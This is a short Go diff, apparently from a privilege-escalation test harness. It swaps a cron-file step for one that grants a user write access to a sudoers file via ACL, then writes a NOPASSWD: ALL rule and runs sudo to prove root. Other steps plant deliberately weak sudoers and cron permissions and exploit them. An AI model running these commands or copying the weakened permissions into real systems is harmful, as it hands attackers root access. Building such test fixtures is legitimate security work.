@@ -72,9 +72,9 @@ var steps = map[string]step{
 		power.Root, power.BySudo, "mkdir -p /opt/job; chmod 777 /opt/job; echo 'agent ALL=(root) NOPASSWD: /opt/job/*' >/etc/sudoers.d/agent; chmod 440 /etc/sudoers.d/agent",
 		"printf '#!/bin/sh\nid -u >/run/steps/proof\n' >/opt/job/a; chmod 755 /opt/job/a; sudo -n /opt/job/a", "", "test $(cat /run/steps/proof) = 0", "rm /etc/sudoers.d/agent",
 	},
-	"a table of cron": {
-		power.Root, power.ByFile, "touch /etc/cron.d/job; chown 1001 /etc/cron.d/job", "echo '* * * * * root id -u >/run/steps/proof' >/etc/cron.d/job",
-		"sed 's/.*root//' /etc/cron.d/job | sh", "test $(cat /run/steps/proof) = 0", "chown 0 /etc/cron.d/job; echo >/etc/cron.d/job",
+	"a file of rules of sudo, by a list": {
+		power.Root, power.ByFile, "touch /etc/sudoers.d/job; chmod 440 /etc/sudoers.d/job; setfacl -m u:1001:rw /etc/sudoers.d/job",
+		"echo 'agent ALL=NOPASSWD: ALL' >/etc/sudoers.d/job; sudo -n sh -c 'id -u >/run/steps/proof'", "", "test $(cat /run/steps/proof) = 0", "rm /etc/sudoers.d/job",
 	},
 	"a program of the bus": {
 		power.Root, power.ByFile,
